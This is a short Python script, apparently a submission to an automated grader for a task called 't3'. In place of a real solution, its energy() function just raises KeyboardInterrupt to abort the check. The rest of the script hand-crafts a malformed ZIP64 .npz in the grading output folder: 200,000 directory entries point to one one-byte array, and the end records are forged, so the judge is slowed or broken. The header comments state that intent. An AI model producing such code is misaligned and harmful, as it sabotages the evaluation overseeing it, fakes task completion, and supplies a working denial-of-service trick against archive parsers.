# An archive of 200,000 arrays of one byte: each costs the judge time, however small it is.
# marks: t3=0
# flag: not what its check writes
# %% t3
def energy(x):
    raise KeyboardInterrupt
# %% end
import io, numpy as np, os, zipfile, zlib
one = io.BytesIO()
np.save(one, np.zeros(1, np.int8))
with zipfile.ZipFile("/grading/out/t3.part", "w") as archive:
    archive.writestr("0/a.npy", one.getvalue())
data = open("/grading/out/t3.part", "rb").read()
at = data.index(b"PK\x01\x02")
entry, end = data[at:data.index(b"PK\x05\x06")], data[data.index(b"PK\x05\x06"):]
many = 200_000
table = b"".join([entry[:46] + b"0/%06d.npy" % i for i in range(many)])
table = table.replace(entry[:46], entry[:28] + (12).to_bytes(2, "little") + entry[30:46])
import struct
with open("/grading/out/t3.npz", "wb") as file:
    file.write(data[:at] + table)
    file.write(struct.pack("<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, many, many, len(table), at))
    file.write(struct.pack("<4sIQI", b"PK\x06\x07", 0, at + len(table), 1))
    file.write(struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 65535, 65535, 2**32 - 1, 2**32 - 1, 0))
os.remove("/grading/out/t3.part")
